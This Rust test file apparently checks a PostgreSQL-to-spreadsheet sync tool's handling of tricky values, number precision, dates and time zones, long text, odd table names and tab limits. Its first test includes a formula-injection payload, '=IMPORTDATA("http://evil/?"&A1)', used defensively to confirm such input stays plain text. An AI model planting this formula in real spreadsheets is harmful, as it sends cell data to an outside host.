//! Values and names that break spreadsheets: every cell is what the database says.

mod common;

use common::Setup;
use sync_testing::sheets::{Cell, Options};

fn column(setup: &Setup, title: &str, n: usize) -> Vec<Cell> {
    let book = setup.workbook();
    let tab = book.tab(title);
    (1..tab.n_rows).map(|row| tab.cell(row, n)).collect()
}

fn text(text: &str) -> Cell {
    Cell::Text(text.into())
}

#[test]
fn text_is_never_a_formula_a_number_or_a_date() {
    let setup = Setup::new();
    let values = [
        "=IMPORTDATA(\"http://evil/?\"&A1)",
        "=1+1",
        "+1",
        "-1",
        "@x",
        "'quoted",
        "007",
        "1e5",
        "TRUE",
        "2024-01-01",
        "12:30",
        " padded ",
        "tab\tand\nline\r\n",
        "\"\\\u{1}\u{7f}",
        "ßäöü€漢字😀\u{200d}\u{1f468}",
        "NULL",
        "null",
        "{}]}",
    ];
    setup.sql("CREATE TABLE t (id int PRIMARY KEY, v text)");
    let mut client = setup.client();
    for (n, value) in values.iter().enumerate() {
        client.execute("INSERT INTO t VALUES ($1, $2)", &[&(n as i32), value]).unwrap();
    }
    setup.sync_to(0, &[]);
    assert_eq!(column(&setup, "t", 1), values.map(text));
    setup.assert_settled();
}

#[test]
fn numbers_keep_every_digit() {
    let setup = Setup::new();
    setup.sql(
        "CREATE TABLE t (id int PRIMARY KEY, i8 int8, n numeric, f8 float8, f4 float4);
        INSERT INTO t VALUES
        (1, 9223372036854775807, 'NaN', 'NaN', 'NaN'),
        (2, -9223372036854775808, 12345678901234567890.123, 'Infinity', '-Infinity'),
        (3, 999999999999999, 0.000001, 0.1, 3.4e38),
        (4, 0, 100.00, 1e300, -0.0),
        (5, NULL, NULL, 0.1::float8 + 0.2, 1e-45)",
    );
    setup.sync_to(0, &[]);
    let big = |n: &str| text(n);
    assert_eq!(
        column(&setup, "t", 1),
        [
            big("9223372036854775807"),
            big("-9223372036854775808"),
            Cell::Number(999999999999999.0),
            Cell::Number(0.0),
            Cell::Empty
        ]
    );
    assert_eq!(
        column(&setup, "t", 2),
        [
            text("NaN"),
            big("12345678901234567890.123"),
            Cell::Number(0.000001),
            Cell::Number(100.0),
            Cell::Empty
        ]
    );
    assert_eq!(
        column(&setup, "t", 3),
        [text("NaN"), text("Infinity"), Cell::Number(0.1), Cell::Number(1e300), text("0.30000000000000004")]
    );
    let f4 = column(&setup, "t", 4);
    assert_eq!(f4[..3], [text("NaN"), text("-Infinity"), Cell::Number(3.4e38)]);
    assert_eq!(f4[4], Cell::Number(1e-45));
    setup.assert_settled();
}

#[test]
fn moments_are_local_and_old_ones_are_text() {
    let setup = Setup::new();
    setup.sql(
        "CREATE TABLE t (id int PRIMARY KEY, d date, ts timestamp, tz timestamptz);
        INSERT INTO t VALUES
        (1, '1900-01-01', '1899-12-31 23:59:59', '2024-03-31 00:59:59+00'),
        (2, '1899-12-31', '0044-03-15 12:00:00 BC', '2024-03-31 01:00:00+00'),
        (3, 'infinity', '-infinity', 'infinity'),
        (4, '2024-02-29', '2024-06-01 12:00:00', '2024-10-27 00:30:00+00'),
        (5, '12345-01-01', '2024-06-01 00:00:00.5', '2024-10-27 01:30:00+00')",
    );
    setup.sync_to(0, &[]);
    let day = |n: f64| Cell::Number(n);
    assert_eq!(
        column(&setup, "t", 1),
        [day(2.0), text("1899-12-31"), text("infinity"), day(45351.0), text("12345-01-01")]
    );
    assert_eq!(
        column(&setup, "t", 2),
        [
            text("1899-12-31 23:59:59"),
            text("0044-03-15 12:00:00 BC"),
            text("-infinity"),
            day(45444.5),
            day(45444.0 + 0.5 / 86_400.0)
        ]
    );
    // In Paris the clock goes from 2:00 to 3:00 on the 31st of March, and shows 2:30 twice on the 27th of October.
    let tz = column(&setup, "t", 3);
    let at = |days: f64, seconds: f64| day(days + seconds / 86_400.0);
    assert_eq!(tz[0], at(45382.0, 7199.0));
    assert_eq!(tz[1], at(45382.0, 10_800.0));
    assert_eq!(tz[3], tz[4]);
    assert_eq!(tz[3], at(45592.0, 9000.0));
    setup.assert_settled();
}

#[test]
fn the_other_types_are_text_that_can_be_read() {
    let setup = Setup::new();
    setup.sql("CREATE TYPE mood AS ENUM ('gut', 'schlecht'); CREATE TYPE pair AS (a int, b text);
        CREATE DOMAIN cents AS int; CREATE DOMAIN list AS int[];
        CREATE TABLE t (id int PRIMARY KEY, j json, jb jsonb, a text[], c pair, m mood, b bytea, u uuid, i inet,
            iv interval, ti time, dom cents, l list, ch char(5), bi bit(3), mo money, x xml, r int4range, b2 bytea);
        INSERT INTO t VALUES (1, '{\"b\": 1,  \"a\": 2}', '{\"b\": 1, \"a\": 2}', '{x,NULL,\"y z\"}', '(1,z)', 'gut',
            '\\xdeadbeef', 'a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11', '10.0.0.1/8', '1 day 02:03:04', '12:30:00', 7,
            '{1,2}', 'ab', B'101', 12.5, '<a/>', '[1,5)', decode(repeat('ab', 1000), 'hex'))");
    setup.sync_to(0, &[]);
    let row: Vec<Cell> = setup.workbook().tab("t").rows(19)[1].clone();
    let expected = [
        Cell::Number(1.0),
        text("{\"b\": 1,  \"a\": 2}"),
        text("{\"a\": 2, \"b\": 1}"),
        text("[\"x\",null,\"y z\"]"),
        text("{\"a\":1,\"b\":\"z\"}"),
        text("gut"),
        text("\\xdeadbeef"),
        text("a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11"),
        text("10.0.0.1/8"),
        text("1 day 02:03:04"),
        text("12:30:00"),
        Cell::Number(7.0),
        text("[1,2]"),
        text("ab"),
        text("101"),
        text("$12.50"),
        text("<a/>"),
        text("[1,5)"),
        text(&format!("\\x{}… (1000 bytes)", "ab".repeat(32))),
    ];
    assert_eq!(row, expected);
    setup.assert_settled();
}

#[test]
fn a_text_that_no_cell_holds_is_cut_and_counted() {
    let setup = Setup::new();
    setup.sql(
        "CREATE TABLE t (id int PRIMARY KEY, v text);
        INSERT INTO t VALUES (1, repeat('😀', 25000)), (2, repeat('😀', 25001)), (3, repeat('x', 1000000))",
    );
    let outcome = setup.sync_to(0, &[]);
    assert_eq!(outcome.n("texts_cut"), 2);
    let cells = column(&setup, "t", 1);
    assert_eq!(cells[0], text(&"😀".repeat(25_000)));
    for cell in &cells[1..] {
        let Cell::Text(text) = cell else { panic!("{cell:?}") };
        assert!(text.ends_with("… [cut]") && text.encode_utf16().count() <= 50_000);
    }
    setup.assert_settled();
}

#[test]
fn nulls_within_a_row_do_not_shift_it() {
    let setup = Setup::new();
    setup.sql(
        "CREATE TABLE t (id int PRIMARY KEY, a text, b text, c text);
        INSERT INTO t VALUES (1, NULL, 'b', NULL), (2, '', NULL, 'c'), (3, NULL, NULL, NULL)",
    );
    setup.sync_to(0, &[]);
    assert_eq!(setup.cells("t", 4)[1..], [["1", "", "'b", ""], ["2", "'", "", "'c"], ["3", "", "", ""]]);
    setup.sql("UPDATE t SET b = NULL WHERE id = 1; UPDATE t SET c = NULL WHERE id = 2");
    setup.sync_to(0, &[]);
    assert_eq!(setup.cells("t", 4)[1..], [["1", "", "", ""], ["2", "'", "", ""], ["3", "", "", ""]]);
}

#[test]
fn tables_of_any_name_have_a_tab() {
    let setup = Setup::new();
    setup.sql(
        r#"CREATE SCHEMA other; CREATE SCHEMA "o.x";
        CREATE TABLE "CO2" (id int PRIMARY KEY); CREATE TABLE "a/b?c#d" (id int PRIMARY KEY);
        CREATE TABLE "User" (id int PRIMARY KEY); CREATE TABLE "user" (id int PRIMARY KEY);
        CREATE TABLE t (id int PRIMARY KEY); CREATE TABLE other.t (id int PRIMARY KEY, "a ""b" text);
        CREATE TABLE "o.x"."y.z" (id int PRIMARY KEY); CREATE TABLE "Sheet1" (id int);
        CREATE TABLE "'q'" (id int); CREATE TABLE "123" (id int); CREATE TABLE "R1C1" (id int);
        INSERT INTO "CO2" VALUES (1); INSERT INTO "User" VALUES (2); INSERT INTO "user" VALUES (3);
        INSERT INTO t VALUES (4); INSERT INTO other.t VALUES (5, '=x');"#,
    );
    setup.sync_to(0, &[]);
    let book = setup.workbook();
    let titles: Vec<&str> = book.tabs.iter().map(|tab| tab.title.as_str()).collect();
    assert_eq!(titles.len(), 12, "{titles:?}");
    for title in ["CO2", "a_b_c#d", "User", "t", "other.t", "o.x.y.z", "q", "123", "R1C1"] {
        assert!(titles.contains(&title), "{title} in {titles:?}");
    }
    assert!(titles.iter().any(|title| title.starts_with("user ")), "{titles:?}");
    assert!(titles.iter().any(|title| title.starts_with("Sheet1 ")), "{titles:?}");
    assert_eq!(setup.cells("other.t", 2), [["'id", "'a \"b"], ["5", "'=x"]]);
    setup.assert_settled();
}

#[test]
fn tables_without_rows_columns_or_a_key() {
    let setup = Setup::new();
    setup.sql(
        "CREATE TABLE no_rows (id int, name text); CREATE TABLE no_columns ();
        INSERT INTO no_columns DEFAULT VALUES; CREATE TABLE json_only (j json);
        INSERT INTO json_only VALUES ('[2]'), ('[1]'), (NULL), ('[1]');
        CREATE TABLE pg2sheets_row (pg2sheets_row int); INSERT INTO pg2sheets_row VALUES (2), (1)",
    );
    setup.sync_to(0, &[]);
    assert_eq!(setup.cells("no_rows", 2), [["'id", "'name"]]);
    assert!(setup.cells("no_columns", 1).is_empty());
    assert_eq!(setup.cells("json_only", 1), [["'j"], [""], ["'[1]"], ["'[1]"], ["'[2]"]]);
    assert_eq!(setup.cells("pg2sheets_row", 1).len(), 3);
    setup.assert_settled();
}

#[test]
fn sixteen_hundred_columns() {
    let setup = Setup::new();
    let columns: Vec<String> = (0..1600).map(|n| format!("c{n} int DEFAULT {n}")).collect();
    setup.sql(&format!("CREATE TABLE wide ({}); INSERT INTO wide DEFAULT VALUES", columns.join(", ")));
    setup.sync_to(0, &[]);
    let book = setup.workbook();
    let tab = book.tab("wide");
    assert_eq!(tab.n_columns, 1600);
    assert_eq!((tab.cell(0, 1599), tab.cell(1, 1599)), (text("c1599"), Cell::Number(1599.0)));
    setup.assert_settled();
}

#[test]
fn more_tables_than_tabs() {
    let setup = Setup::with(Options { quota: None, tab_limit: 200, ..Options::default() });
    let tables = (0..205).map(|n| format!("CREATE TABLE t{n:03} (id int PRIMARY KEY);"));
    setup.sql(&tables.collect::<String>());
    let outcome = setup.sync_to(3, &[]);
    assert_eq!(setup.workbook().tabs.len(), 200);
    let failed = outcome.report["failed"].as_array().unwrap();
    assert_eq!(failed.len(), 6, "{failed:?}");
    assert!(failed[0]["reason"].as_str().unwrap().contains("200"), "{failed:?}");
}
